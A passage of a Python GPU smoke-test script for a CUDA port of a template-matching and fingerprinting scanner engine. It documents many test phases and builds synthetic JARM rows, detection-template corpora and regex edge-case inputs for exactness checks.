#!/usr/bin/env python3
"""Chip smoke test of the PyTorch/CUDA port (``swarm_tpu_torch``) on one GPU.

    python3 chip_smoke.py
    python3 chip_smoke.py --only match       # device, corpus, match, telemetry_cost
    python3 chip_smoke.py --only telemetry   # device, corpus, telemetry_worker
    python3 chip_smoke.py --only timing      # device, corpus, fingerprint_worker, match_timing
                                             #   (and the pipelined stream's md5 calls)
    python3 chip_smoke.py --only mesh        # device, build, corpus, mesh
    python3 chip_smoke.py --only startup     # device, corpus, fingerprint_worker, startup_worker
    python3 chip_smoke.py --only profiles    # device, 1,000 device profiles (ROADMAP C)
    python3 chip_smoke.py --only refresh     # device, build, corpus, refresh
    python3 chip_smoke.py --only monitor     # device, build, corpus, monitor
    python3 chip_smoke.py --only queue       # device, build, corpus, monitor, queue
    python3 chip_smoke.py --only result_cache  # device, build, corpus, result_cache
    python3 chip_smoke.py --only multihost   # device, build, multihost (two processes)
    python3 chip_smoke.py --only aot         # device, build, corpus, aot

Runs from the root of a checkout, on a machine with one CUDA card, and
prints one JSON line per phase:

1. ``device``  — the card (``nvidia-smi`` name and power limit); exits
   non-zero without a CUDA device.
2. ``build``   — compiles the cluster kernels, the match kernels, the md5
   kernel and the verdict kernel (``nvcc``, sm_90a, one library a source:
   ``cluster.cu``, ``match.cu``, ``md5.cu``, ``verdicts.cu``), the
   tensor-core rate probe
   (``ops/csrc/mma_rate.cu``, its own library) and the three host
   libraries (``make``: the scan library, libfastpack — the engine's
   dedup, memo, pack and walk passes, against the interpreter's
   ``Python.h`` — and the crex regex VM) from the checkout's sources,
   all in parallel; the seconds are set-up. Each kernel library is
   built into a file named by its key (``kernels.library_key``: its
   sources, the nvcc flags, ``nvcc --version``, the card's capability);
   the keyed files are removed first, so every library is built, then
   loaded a second time, which must find its keyed file and run no
   nvcc. Prints each library's key and how each load went, each
   kernel's registers and shared memory (``ptxas -v``), and the
   longest dependent chain of ``match_md5``'s SASS a round
   (``cuobjdump -sass``, :func:`sass_chain`); fails if ptxas reports a
   spill.
3. ``mma``     — the probe's ``mma.sync`` rates: 1-bit m16n8k256
   .and.popc (the kernels' product; it prices each kernel's bound, as
   the data sheet gives no 1-bit rate), .xor.popc, and int8 m16n8k32;
   and the cycles of one md5 round on one thread, rounds back to back
   (``md5_round_cycles``), beside the latency bound's cycles a round.
4. ``kernels`` — each kernel against its plain PyTorch version on the
   card, at N in {1, 7, 16, 127, 128, 129, 300, 4097, 8193, 65536} on
   random and JARM-like rows and one all-duplicate set of 4,097, radius
   in {0, 0.5, 32, 40, 512}: rho, delta and parent must be exactly equal
   (tolerance 0: all values are integers or integer-valued f32), the
   parent kernel with its 32-bit key and with the 64-bit key it takes
   above 2^21 rows. Then times at N = 65,536, the parent kernel alone
   with either key in turns.
5. ``scale``   — ``density_cluster`` at N = 65,536 fingerprints of 512
   bits, radius 40: fingerprints/s.
6. ``trace``   — one such call under ``torch.profiler``: its span, the
   kernels' and copies' spans on the card, the card's idle share, and
   that idle time split among the call's host steps.
7. ``worker``  — the main path: local TLS listeners answering with
   synthesized ServerHellos, a stdlib stand-in of the server's worker
   routes handing out one ``jarm`` job, and the port's
   ``JobProcessor.process_jobs()`` on ``cuda``. The job must end
   ``complete`` with one line per target, 6 clusters, the dead and
   open-not-tls rows, output byte-identical to the same module run on
   the CPU, and both kernels launched.
8. ``corpus``  — the seeded synthetic corpus of the reference's shape
   (3,989 http templates; 6,895 word, 1,779 regex, 766 dsl matchers),
   compiled by the port; its compiled shape beside the reference's.
9. ``match_kernels`` — each match kernel (``ops/csrc/match.cu``:
   ``match_phase_a``, ``match_verify``, ``match_regex_scan``;
   ``ops/csrc/md5.cu``: ``match_md5``; ``ops/csrc/verdicts.cu``:
   ``match_verdicts``) against its plain version on the card, exact, on
   the very calls ``DeviceDB.match`` makes (``kernels.record_calls``)
   for: a 2,048-row stress batch (max_body 2,048, max_header 512, as
   bench.py, no content dedup), one row, empty rows, rows at full width,
   rows over the candidate budget, a batch over k_pairs, and a batch of
   the ``tests/data/templates`` corpus, whose workflow gates read the
   verdict kernel's m_value; the planes of each against the same batch
   through the plain versions. Then ``match_md5`` on :func:`md5_cases`
   at widths 64, 256, 320, 2,048 and 4,096 (1,024 random lengths; the
   md5 edge lengths 0, 55, 56, 63, 64, 119, 120, W, ... at several
   lanes of a block; every chunk border of its shared-memory ring ±1;
   lengths of 0 and below beside W; lengths past W), every byte past
   each length random, against its plain version and hashlib,
   ``match_verdicts`` on the stress batch's call without the digest,
   without the regex overlay, on random slot planes and on its first 1,
   33 and 257 rows and on a corpus whose status and size matchers hold
   40 values, and ``match_regex_scan`` on hand-written regex
   corpora of 1 and 3 state lanes with skip runs (closure rounds), over
   rows whose pairs are 0, 1, 255, 256, 257 bytes long and the stream's
   full width; ``match_phase_a`` and ``match_verify`` on the edges of
   ``candidate_edges`` (widths that are not a multiple of 32, gram sizes
   other than 4 and 8, rows shorter than q, 0 and 1 rows, kclamp below
   the budget, an overflow row, tables without groups, groups past
   emax, slots longer than 64 bytes, suffix grams outside the width, a
   verify that fails at its last byte).
10. ``match``  — ``MatchEngine`` as the worker builds it: its first
   batch as in 9, then ``MatchEngine.match`` of 2,048 rows, warm, called
   for a 2-second window with the engine's content memos cleared before
   each call (fresh content: the verdict memo would otherwise serve every
   row of a repeated call and the device would run nothing): rows/s over
   the window (and, apart, the median call's rate, which leaves a GC
   pause out), ms by stage (the host walk's sub-phases among them) and
   by call, GC collections, in-batch unique rows, the miss uniques the
   device ran and confirms per batch; then the same window without
   clearing (memo-warm rows/s); a sample of rows against the oracle.
   ``match`` encodes each call's next batch on a helper thread while the
   current one is matched. Then ``telemetry_cost``: fresh calls of that
   engine in interleaved pairs, the port's metric families as they are
   and with their mutators no-ops (see :func:`phase_telemetry_cost`).
11. ``match_trace`` — one fresh call under ``torch.profiler`` (the host
   steps of the calling thread; the helper thread's encode is not
   traced), and the CUDA runtime calls that block the host, by step.
12. ``sched`` — the continuous-batching scheduler (``pipeline="on"``)
   over a stream of 16,384 ``realistic_rows`` (16 chunks of 1,024) on the
   match corpus, the engines as the worker builds them: its results
   equal to the direct path's (template ids, extractions, gate planes)
   for ``inflight`` 1, 2, 4 × ``walk_offload`` on, off × ``prefetch``
   thread, inline, and memo-warm; rows/s of the stream with the pipeline
   off and on in turns (off, on, on, off; 2-second windows, every memo
   cleared before each call, the median call beside each) and the
   ``SchedStats`` of the on arm, which must reach an in-flight depth of
   2 with offloaded walks; one traced call of each arm (card busy and
   idle, the five kernels' launches, the host steps and syncs); and a
   ``fingerprint`` job of 4,096 rows with ``pipeline: on`` through the
   port's worker on ``cuda``, byte-identical to the job with the
   pipeline off and to the pipelined job on the CPU, its perf fields
   carrying ``pipeline`` and ``sched``. The ``match_md5`` calls of one
   more fresh pipelined call of the stream are recorded for 14.
13. ``fingerprint_worker`` — the main path of the match: the stand-in
   server hands out one ``fingerprint`` job of 2,048 JSONL rows over the
   synthetic corpus, and the port's worker runs it on ``cuda``. It must
   end ``complete`` with one line per row, the first 256 byte-identical
   to the same module on the CPU and a sample to the oracle, and all
   five match kernels launched. The job's kernel calls are recorded.
14. ``match_timing`` — each match kernel on the job's recorded calls:
   exact against its plain version, ms per call through the wrapper
   (host work included; the kernels line's ``ms``) and on the card
   alone (``card_ms``: the calls queued behind a spin kernel) beside its
   plain version's (for ``match_verdicts``, whose call is two launches,
   also each launch's card time from events around and between its
   launches: ``pack_card_ms``, ``eval_card_ms``), and its bound from the
   call's data (for ``match_md5``, one thread a row, and
   ``match_regex_scan``, one lane a pair, also a latency bound: the
   longest row's or pair's dependent chain at the card's maximum SM
   clock); for ``match_phase_a``,
   ``match_verify`` and ``match_regex_scan`` also the card time of the
   same call with no live work (every row empty, every candidate or
   pair dead): the launch and the walk apart from the work.
   ``match_md5`` also on the calls of the stream of 12, exact and
   timed in the same way.
14a. ``mesh`` — ``parallel/`` on the card (see :func:`phase_mesh`): the
   worker's engine over ``make_mesh`` grids (1,1,1), (2,1,1), (1,2,1),
   (1,1,2) and (2,2,2) of ranks on the one card (``cuda:0`` k times; on
   a host with several cards, the cards in turn), 2,048 realistic rows:
   each device batch's planes exactly equal to the single-device
   ``DeviceDB``'s, every kernel call exact against its plain version
   (the seq grids' phase A and verify calls carry halos), the results
   equal to the single-device engine's, ms a call and launches a grid;
   the (2,2,2) grid's halo calls of phase A and the verify timed as the
   job's calls are; a pipelined stream of 4,096 rows through a (2,1,1)
   engine, exact, two batches in flight, the deferred combines
   overlapped.
14b. ``refresh`` — the corpus-delta refresh at full width (see
   :func:`phase_refresh`): the worker's engine over the match corpus,
   2,048 rows, refreshed with one template added, one removed, one word
   edited and a no-op: each refresh's seconds beside a fresh engine's
   compile, layout and upload seconds, the leaves (and bytes) uploaded
   and reused, the next batch's ms beside the one before, exact against
   a fresh engine on the new corpus with every kernel call exact against
   its plain version; the no-op uploads nothing and keeps the kernels'
   corpus structs. Then a refresh on the (2,2,2) grid of the card, and
   one between two quiesced pipelined streams.
14b'. ``monitor`` — the monitor lane (see :func:`phase_monitor`): one
   standing spec over 2,048 ``jsonl`` targets in 8 chunks of 256 on the
   match corpus, 4 epochs with 102 targets changed in each after the
   first and a fifth repeating the fourth, every chunk a
   ``fingerprint`` job of the port's worker on ``cuda``; each epoch's
   verdicts diffed against the prior plane from the port's memory tier
   and written as feed records and a mark. The feed equals byte for
   byte a replay diff of the stored outputs and one of the CPU
   oracle's lines; 2,048 ``new`` records in epoch 1, records only for
   changed targets after, none in the fifth; the kernel calls exact;
   one notify call with the new corpus digest from a ``refresh_corpus``.
   The epochs' seconds, records by kind and the diff's host ms a target.
14b''. ``queue`` — the server's queue side (see :func:`phase_queue`):
   the port's worker on ``cuda`` takes its jobs from the port's
   ``JobQueueService`` (memory stores, the journal on) through an
   in-process client. A bulk scan of the monitor phase's 2,048 rows and
   an interactive one of 512 (the express lane served first); the
   queue dropped and rebuilt over the same blobs (generation 2, equal
   state, a ``journal_recovery`` dump); a ``device.dispatch`` fault
   degraded and dumped; a dead letter; then the monitor service over
   this queue, whose feed must equal the monitor phase's byte for
   byte. Every chunk's output equals the stand-in server's.
14c. ``result_cache`` — the fleet result tier (see
   :func:`phase_result_cache`): two workers' engines in this process
   over ``cache_backend=memory``, the match corpus, 2,048 rows. A walks
   them (its kernel calls exact) and writes them back; B, cold, is
   served by the tier (no device row, the same RowMatches as A's and a
   tierless engine's); B pipelined over 4,096 rows, half A's (the memo
   lane, from the tier) and half fresh (its calls exact); B refreshed
   (the epoch moves: 0 shared hits, a fresh engine's results); a
   ``cache.get`` fault plan opens a breaker (L1-only, identical, the
   store untouched); rows/s of A cold and B tier-warm.
14d. ``multihost`` — the mesh across processes (see
   :func:`phase_multihost`): two more copies of this script join one
   process group over localhost (the ``SWARM_COORDINATOR`` triplet),
   both on ``cuda:0``, so the collectives run on gloo (NCCL refuses two
   ranks on one GPU); grids whose data, model and seq axes span the two
   processes, each process's planes exact against a one-process
   ``DeviceDB``, ms a call and the cross-process bytes; a refresh of the
   model grid. Exactness only: one card shows no speed.
14e. ``startup_worker`` — the worker started as an operator starts it,
   ``python -m swarm_tpu_torch.worker --config <file>`` in a subprocess,
   one ``fingerprint`` job of 2,048 rows from the stand-in server,
   without and with ``prewarm_modules`` (see
   :func:`phase_startup_worker`): the same output, the seconds to the
   first poll and the first job's seconds.
15. ``service`` — service detection at the production DB's full width:
   ``ServiceClassifier`` over ``swarm_tpu/data/service-probes-large.txt``
   (487 probes, 12,331 signatures, read as data) on ``cuda``, built cold
   and warm (the port's compile cache), what the kernels see of the
   lowered corpus beside their limits, its first batch against the plain
   versions, ``classify`` of 2,048 banner rows (the 1,386 recall banners,
   then bench.py's shapes) over a 2-second window with every memo
   cleared before each call (banners/s, ms a batch by stage), one traced
   call, every recall banner's service, product and version against the
   recall file, a sample of template ids against the oracle, and the
   kernels on one fresh call's calls, exact and timed.
16. ``service_worker`` — a ``servicescan`` job over that DB through the
   port's worker on ``cuda`` against local banner listeners of the
   recall set's protocols: the nmap-style report byte-identical to the
   same job with ``device="cpu"``.
17. ``tpu_forms_worker`` — ``tpu`` jobs over the synthetic corpus plus
   workflows that gate on it: ``targets`` input against local HTTP
   listeners, ``nuclei`` output, JSONL output, each byte-identical to its
   ``device="cpu"`` twin, workflow lines in each, the verdict kernel's
   m_value written and rows carrying gate planes; the corpus compile's
   cold and warm build through the compile cache.
18. ``active_worker`` — a ``nuclei`` job (the ``active`` backend) at the
   match corpus's width against local path-routing listeners, pipeline
   off and on and traced (see :func:`phase_active_worker`).
19. ``oob_headless_worker`` — a ``nuclei-oob`` job over that corpus with
   144 OOB templates and the headless templates, against listeners
   that call the OOB listener back or serve the headless pages:
   seconds by stage (the drain's wait and match, the headless round
   and its join), the drain's ``oobp``/``oobr`` widths on the card, its
   kernel calls exact, lines equal to the CPU run's (see
   :func:`phase_oob_headless_worker`).
20. ``file_worker``, ``command_worker`` — a ``file`` job and an ``echo``
   job through the worker.
21. ``telemetry_worker`` (run right after ``corpus``: late in a run,
   after many profiler traces, a profile once came back without device
   events, an open defect) — the worker's telemetry (see
   :func:`phase_telemetry_worker`): a ``jarm`` job and a 4,096-row
   ``fingerprint`` job with the pipeline off and on, untraced, traced
   (``SWARM_TRACE``, a trace id on the job) and profiled
   (``SWARM_PROFILE_DIR``): outputs byte-identical, the reference's span
   names and nesting, the job's ``rows`` and ``device_s``, every
   ``__global__`` function of every launched kernel named in the job's
   ``torch.profiler`` trace (the worker fails the job otherwise), the
   recorded kernel calls exact, the registry's families non-zero, and
   the traced ÷ untraced job seconds.
22. ``resilience_worker`` — the worker's resilience against the
   stand-in server (see :func:`phase_resilience_worker`): a
   ``fingerprint`` job whose first two device dispatches fail
   (``SWARM_FAULT_PLAN=device.dispatch:1-2``) ends ``complete``,
   byte-identical to the job without faults, its two degraded batches
   redone on the CPU oracle and its device breaker open, half-open,
   then closed, the kernel calls after the cooldown exact; a chunk
   slowed past three heartbeat intervals keeps its lease; an upload
   outage longer than the retries is spooled and replayed on the next
   poll, then a drain order ends the worker, which deregisters once.

23. ``aot`` (after ``result_cache``) — the AOT library cache: this
   process publishes the four built libraries to a file-backed store;
   a worker on a copy of the tree with no kernel library runs the
   ``fingerprint`` job cold (nvcc), then as a joiner that prewarms the
   four from the store and compiles nothing, with the same launches and
   output, every recorded call and the cluster kernels exact; then a
   truncated blob, an ``aot.fetch`` fault plan and an epoch bump, each
   in a process of its own (see :func:`phase_aot`), and the gateway's
   scan cache on the job's output.

Every MatchEngine that phases 9–21 build in this process (the phases' own, the
worker's, a scanner's, a classifier's) must end its phase with no device
fault and no degraded batch (the ``no_device_faults`` line counts them).
Each phase's compile cache (``SWARM_DB_CACHE_DIR``) lies in a temporary
directory of the run. Then the ``{"kernels": [...]}`` summary (all
seven kernels; ``match_md5`` also with its registers, shared memory,
spills and SASS chain a round from the build, the cycles of its round on
one thread from the probe, and its times on the stream's calls; each
match kernel also with its launches on the sched
phase's traced pipelined call, and its launches and times on the
service corpus, and for each grid of the mesh phase, with the seq-halo
calls' times for phase A and the verify; and its launches on the batch
after the refresh phase's last refresh, on the monitor phase's
epochs, on the queue phase's jobs, on the result_cache phase's
writer's call, on each grid of the multihost phase, and on the aot
phase's joiner; the cluster kernels also on the joiner), the
``nvidia-smi`` line, and
as the last line
``{"ok": true, "device": {...}}``. Any failed check raises and the
script exits non-zero without that line.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import gc
import hashlib
import http.server
import json
import os
import re
import socket
import struct
import subprocess
import sys
import sysconfig
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np

REPO = Path(__file__).resolve().parent
MMA_PROBE = REPO / "swarm_tpu_torch" / "ops" / "csrc" / "mma_rate.cu"

# H100 SXM data-sheet memory rate (700 W), for each kernel's bound
HBM_BYTES_PER_S = 3.35e12

API_KEY = "chip-smoke"

#: the host steps of ``density_cluster`` (``record_function`` spans)
HOST_SPANS = ("carry_packed", "density_order", "unpermute", "read_back", "label_pass")


def emit(obj: dict) -> None:
    print(json.dumps(obj), flush=True)


# ---------------------------------------------------------------------------
# Inputs


def jarm_like_rows(rng: np.random.Generator, n: int) -> np.ndarray:
    """Synthetic JARM-style fingerprints: 64 base TLS stacks + one
    jittered character per host (as bench.py's jarm clustering bench)."""
    from swarm_tpu_torch.ops import cluster

    alphabet = np.frombuffer(b"0123456789abcdef", dtype=np.uint8)
    base = alphabet[rng.integers(0, 16, size=(64, 62))]
    picks = base[rng.integers(0, 64, size=n)].copy()
    jitter = rng.integers(0, 62, size=n)
    picks[np.arange(n), jitter] = alphabet[rng.integers(0, 16, size=n)]
    return cluster.pack_strings([bytes(r) for r in picks])


def random_rows(rng: np.random.Generator, n: int) -> np.ndarray:
    return rng.integers(0, 2**32, size=(n, 16), dtype=np.uint64).astype(np.uint32)


# ---------------------------------------------------------------------------
# Synthetic fingerprint corpus and response rows
#
# The reference's 3,989-template corpus is not in the repository; its
# shape is on record (BASELINE.md:19): 6,895 word, 1,779 regex and 766
# dsl matchers. The generator makes nuclei-shaped http templates of that
# shape from a seed, and the rows are bench.py's realistic mix with
# about one row in ten planted with the fragments of corpus templates.

#: the reference corpus's matcher counts (BASELINE.md:19) and templates
CORPUS_TEMPLATES = 3989
CORPUS_MATCHERS = {"word": 6895, "regex": 1779, "dsl": 766}

_SYLLABLES = (
    "ac", "me", "zor", "tek", "vi", "lo", "na", "qu", "ix", "pro", "dyn",
    "sys", "net", "ware", "cl", "oud", "sec", "gat", "hub", "cor", "flex",
    "ra", "ven", "tor", "ul", "sa", "mi", "ko", "bel", "tri", "um", "ox",
)
#: short dsl literals: the compiler's tiny (1-3 byte) slots
_TINY = ("q7", "zx9", "%$#", "k3y", "v2!", "~~", "0xz", "@@")
_SUFFIXES = ("", " Server", " Manager", " Admin", " Console", " Gateway", " CMS", " Portal")


def _name(rng) -> str:
    n = int(rng.integers(2, 5))
    return "".join(_SYLLABLES[int(i)] for i in rng.integers(0, len(_SYLLABLES), n))


def synthetic_corpus(seed: int = 0, n_templates: int = CORPUS_TEMPLATES,
                     counts: dict | None = None) -> tuple[list, list]:
    """Nuclei-shaped http templates (as parsed YAML dicts) with the given
    word / regex / dsl matcher counts (default: the reference corpus's),
    and the plants: for each template, response fragments that make it
    fire (body text, header lines, a status, or a whole body)."""
    rng = np.random.default_rng(seed)
    if counts is None:
        counts = {k: round(v * n_templates / CORPUS_TEMPLATES) for k, v in CORPUS_MATCHERS.items()}
    words = np.ones(n_templates, dtype=np.int64)
    extra = counts["word"] - n_templates
    np.add.at(words, rng.integers(0, n_templates, max(extra, 0)), 1)
    has_rx = np.zeros(n_templates, bool)
    has_rx[rng.choice(n_templates, counts["regex"], replace=False)] = True
    has_dsl = np.zeros(n_templates, bool)
    has_dsl[rng.choice(n_templates, counts["dsl"], replace=False)] = True
    docs, plants = [], []
    for i in range(n_templates):
        name = _name(rng)
        cap = name.capitalize()
        tid = f"synth-{i:04d}-{name}"
        matchers, extractors = [], []
        plant = {"body": [], "header": [], "status": None, "whole_body": None}
        for w in range(int(words[i])):
            shape = int(rng.integers(0, 6))
            word = (cap, f"powered by {cap}", f"<title>{cap}{_SUFFIXES[w % len(_SUFFIXES)]}</title>",
                    f"{name}.min.js", f"{cap}-Session", f"/{name}/static/")[shape]
            word = word[:40]
            if len(word) < 4:
                word = (word + "-app")[:40]
            part = ("body", "body", "body", "header", "all")[int(rng.integers(0, 5))]
            ci = bool(rng.random() < 0.25)
            m = {"type": "word", "words": [word], "part": part}
            if ci:
                m["case-insensitive"] = True
            if rng.random() < 0.15:
                m["words"].append(f"{cap} {int(rng.integers(1, 99))}")
                m["condition"] = "and" if rng.random() < 0.5 else "or"
            matchers.append(m)
            dest = "header" if part == "header" else "body"
            plant[dest].extend(m["words"] if m.get("condition") == "and" else m["words"][:1])
        if has_rx[i]:
            # about half are linear programs the device regex verifies;
            # the rest (lookarounds) stay prefilters the host confirms
            shape = int(rng.integers(0, 4)) if rng.random() < 0.53 else int(rng.integers(4, 6))
            ver = f"{int(rng.integers(1, 20))}.{int(rng.integers(0, 10))}.{int(rng.integers(0, 10))}"
            if shape == 0:
                pat, part, sample = f"(?i)server: {name}/([0-9.]+)", "header", f"Server: {cap}/{ver}"
            elif shape == 1:
                pat, part, sample = f"<title>{cap} v([0-9]+\\.[0-9]+)</title>", "body", f"<title>{cap} v{ver[:3]}</title>"
            elif shape == 2:
                pat, part, sample = f"{name}_version=([0-9]+)", "body", f"{name}_version={ver.split('.')[0]}"
            elif shape == 3:
                pat, part, sample = f"X-{cap}-Id: [a-f0-9]+", "header", f"X-{cap}-Id: {int(rng.integers(0, 1 << 30)):x}"
            elif shape == 4:
                pat, part, sample = f'<meta name="{name}" content="(?!none)([^"]+)"', "body", f'<meta name="{name}" content="{ver}"'
            else:
                pat, part, sample = f"(?i){name} (?:admin|login)(?= page)", "body", f"{cap} Login page"
            matchers.append({"type": "regex", "regex": [pat], "part": part})
            (plant["header"] if part == "header" else plant["body"]).append(sample)
            if shape in (0, 1, 2, 4):
                extractors.append({"type": "regex", "part": part, "group": 1, "regex": [pat]})
        if has_dsl[i]:
            shape = int(rng.integers(0, 10))
            if shape == 0:
                page = f"<html>{cap} default page</html>"
                dsl = f'md5(body) == "{hashlib.md5(page.encode()).hexdigest()}"'
                plant["whole_body"] = page
            elif shape <= 4:
                word = f"{cap} Dashboard"
                dsl = f'status_code == 200 && contains(body, "{word}")'
                plant["body"].append(word)
                plant["status"] = 200
            elif shape == 5:
                token = _TINY[i % len(_TINY)]
                dsl = f'status_code == 200 && contains(body, "{token}")'
                plant["body"].append(token)
                plant["status"] = 200
            elif shape <= 7:
                word = f"{name}-token"
                dsl = f'contains(tolower(header), "{word}")'
                plant["header"].append(f"Set-Cookie: {word}=1")
            else:
                word = f"{cap} build"
                dsl = f'len(body) > 100 && contains(body, "{word}")'
                plant["body"].append(word)
            matchers.append({"type": "dsl", "dsl": [dsl]})
        cond = "or"
        if rng.random() < 0.25 and plant["status"] in (None, 200):
            # the page and a 200: every matcher must hold
            cond = "and"
            matchers.append({"type": "status", "status": [200]})
            plant["status"] = 200
        doc = {
            "id": tid,
            "info": {"name": f"{cap} detection", "severity": "info", "tags": "tech,synthetic"},
            "http": [{
                "method": "GET", "path": ["{{BaseURL}}"],
                "matchers-condition": cond, "matchers": matchers,
            }],
        }
        if extractors:
            doc["http"][0]["extractors"] = extractors
        docs.append(doc)
        plants.append(plant)
    return docs, plants


#: positions kernel match_regex_scan stages a piece (csrc/match.cu
#: kRegexPiece): the scan's edge lengths are one either side of it
REGEX_PIECE = 256


def _regex_template(i: int, part: str, patterns: list) -> dict:
    return {"id": f"regex-{i}", "info": {"name": f"regex {i}", "severity": "info"},
            "requests": [{"method": "GET", "path": ["{{BaseURL}}/"], "matchers": [
                {"type": "regex", "part": part, "regex": patterns}]}]}


#: (part, pattern): each compiles to device sequences of at most 32
#: positions; skip runs up to 4, anchors, $ / \Z, leading and trailing \b
REGEX_SHORT = [
    ("body", r"zab?c?d"),                  # a skip run of 2
    ("body", r"zqw?e?r?t?y"),              # a skip run of 4
    ("body", r"ver(sion)?[ :]*[0-9]+"),    # two sequences, skip runs of 1
    ("body", r"\bfoo[0-9]+\b"),            # \b at both ends
    ("body", r"\bword\b"),
    ("body", r"end-\b"),                  # a trailing \b after a byte that is no word byte
    ("body", r"\b-x[0-9]"),               # a leading \b before one
    ("body", r"the end\Z"),
    ("body", r"last line$"),               # $, also before a trailing newline
    ("body", r"(?i)Alpha-[a-z]{2,4}"),     # case-insensitive, a skip run of 2
    ("header", r"^Server: x[a-z]+"),       # anchored at the stream's start
    ("header", r"(?i)x-gen: [0-9]{3}\b"),
    ("body", r"[0-9]{2}[a-z]\b"),          # no literal to gate it: every row scans it
]
#: a sequence of 42 positions: two state lanes
REGEX_MID = [("body", r"qa[0-9]{40}b")]
#: a sequence of 72 positions: three state lanes
REGEX_LONG = [("body", r"(?i)token=[0-9a-f]{64}[;,]?!")]


def regex_docs(lanes: int) -> list:
    """A hand-written regex corpus whose device sequences take ``lanes``
    (1, 2 or 3) uint32 state lanes, with skip runs up to 4 (the scan's
    closure rounds), anchors, ``$`` and ``\\Z``, and leading and trailing
    ``\\b``."""
    entries = (REGEX_SHORT + (REGEX_MID if lanes >= 2 else [])
               + (REGEX_LONG if lanes >= 3 else []))
    return [_regex_template(i, part, [pattern]) for i, (part, pattern) in enumerate(entries)]


def _ending(length: int, tail: bytes, fill: bytes = b".") -> bytes:
    """A body of ``length`` bytes ending in ``tail``."""
    return (fill * length)[: length - len(tail)] + tail


def regex_rows(width: int = 1024) -> list[dict]:
    """Rows for :func:`regex_docs`: matches and near misses at the
    lengths where the scan has edges: 0 and 1, one piece
    (:data:`REGEX_PIECE`) and one either side, and ``width``, the
    stream's full width."""
    hexes = "0123456789abcdef" * 4
    bodies = [
        b"", b"z", b"d", b"12x", b"12xy", b"zad", b"zabcd", b"zabbd", b"zqy", b"zqwerty",
        b"zqwertyy", b"version: 12", b"ver3", b"vers 4",
        b"foo123", b"xfoo123", b"foo123x", b"a foo9 b", b"word", b"words", b"sword",
        b"the end-", b"the end-x", b"end--", b"-x1", b"a-x1",
        b"the end", b"the end\n", b"the end!", b"last line", b"last line\n",
        b"last line\n\n", b"last line x",
        b"ALPHA-AbC", b"alpha-a", b"xalpha-abcdef",
        b"qa" + b"7" * 40 + b"b", b"qa" + b"7" * 39 + b"b",
        ("TOKEN=" + hexes.upper() + ";!").encode(), ("token=" + hexes + "!").encode(),
        ("token=" + hexes[:-1] + "!").encode(),
    ]
    for n in (REGEX_PIECE - 1, REGEX_PIECE, REGEX_PIECE + 1):
        bodies += [_ending(n, b" foo77"), _ending(n, b"zabd"), _ending(n, b"the end"),
                   _ending(n, b" word"), _ending(n, b"zabd", b"zabd.")]
    # matches across the piece's edge
    bodies += [_ending(REGEX_PIECE + 2, b"zabd...."), _ending(REGEX_PIECE + 3, b" foo1234 "),
               _ending(REGEX_PIECE, b"end-"), _ending(REGEX_PIECE + 1, b"end-x")]
    bodies += [_ending(width, b" foo1"), _ending(width, b"last line\n"),
               _ending(width, b"zqwerty"), _ending(width, ("token=" + hexes + ",!").encode())]
    headers = [b"Server: xyz", b"server: xyz", b"X-Server: xyz", b"X-Gen: 123",
               b"x-gen: 1234", b"Server: x\r\nX-Gen: 999"]
    return [{"host": f"r{i}", "port": 80, "status": 200, "body": body,
             "header": headers[i % len(headers)]} for i, body in enumerate(bodies)]


#: a status matcher of 40 codes and a size matcher of 40 sizes: wider
#: than the 32 lanes of a warp of the verdict kernel, which takes a
#: matcher's values 32 a pass
WIDE_STATUS = tuple(range(200, 240))
WIDE_SIZES = tuple(11 + 3 * i for i in range(40))


def wide_matcher_docs() -> list:
    """Templates whose status and size matchers hold more than 32 values:
    ``many-status`` (the 40 codes AND the word "nginx") and ``many-size``
    (a body of one of the 40 sizes)."""
    def doc(tid: str, matchers: list, condition: str = "or") -> dict:
        return {"id": tid, "info": {"name": tid, "severity": "info"},
                "http": [{"method": "GET", "path": ["{{BaseURL}}/"],
                          "matchers-condition": condition, "matchers": matchers}]}

    return [
        doc("many-status", [{"type": "status", "status": list(WIDE_STATUS)},
                            {"type": "word", "words": ["nginx"]}], "and"),
        doc("many-size", [{"type": "size", "size": list(WIDE_SIZES), "part": "body"}]),
    ]


def wide_matcher_rows() -> list[dict]:
    """Rows for :func:`wide_matcher_docs`: "hello nginx" (11 bytes, the
    first size) with the first, a middle and the last of the 40 codes and
    two codes outside them; bodies of the 36th and the 40th size (values
    past the first 32) and two sizes outside them."""
    rows = [{"host": f"s{code}", "port": 80, "status": code, "body": b"hello nginx"}
            for code in (200, 231, 239, 240, 404)]
    rows += [{"host": f"n{n}", "port": 80, "status": 200, "body": b"x" * n}
             for n in (WIDE_SIZES[35], WIDE_SIZES[39], WIDE_SIZES[39] + 1, 12)]
    return rows


#: gram sizes other than the compiler's 4 and 8, which kernels
#: match_phase_a and match_verify take by a slower path
GENERIC_Q = (1, 3, 5, 7, 2, 6)


def candidate_edges(streams: dict, lengths: dict, table_q: tuple, tab: dict,
                    slot_bytes: np.ndarray, slot_len: np.ndarray) -> dict:
    """Edge cases of phase A and the verify, made from one batch's numpy
    inputs (the streams after the "all" synthesis, their lengths, the
    tables' gram sizes, the stacked verify tables, the slot bytes and
    the slot lengths): name → the same six, edited. Widths that are not
    a multiple of 32 (rows past their width too); gram sizes other than
    4 and 8; rows shorter than q; tables without groups; groups that run
    past emax (their entry indices clamp); every slot longer than the 64
    verified bytes; suffix grams outside the width; the last verified
    byte of every slot changed (each verify fails at its last byte).
    Each edit copies what it changes."""
    def lengths_of(fn):
        return {k: fn(v) for k, v in lengths.items()}

    def edit(**kw):
        base = dict(streams=streams, lengths=lengths, table_q=table_q, tab=tab,
                    slot_bytes=slot_bytes, slot_len=slot_len)
        base.update(kw)
        return tuple(base.values())

    out = {"base": edit()}
    # cut each stream to 19 bytes short of a multiple of 32
    cut = {k: np.ascontiguousarray(v[:, : max(v.shape[1] - v.shape[1] % 32 - 19, 5)])
           for k, v in streams.items()}
    out["width_not_32"] = edit(streams=cut)
    q = tuple(GENERIC_Q[i % len(GENERIC_Q)] for i in range(len(table_q)))
    out["generic_q"] = edit(table_q=q)
    rows = next(iter(lengths.values())).shape[0]
    short = np.arange(rows, dtype=np.int32) % 9  # 0..8 bytes: shorter than q or just past it
    out["short_rows"] = edit(lengths=lengths_of(lambda v: np.minimum(v, short).astype(v.dtype)))
    no_groups = dict(tab, n_groups=tab["n_groups"].copy())
    no_groups["n_groups"][::3] = 0
    out["no_groups"] = edit(tab=no_groups)
    emax = tab["entry_h2"].shape[1]
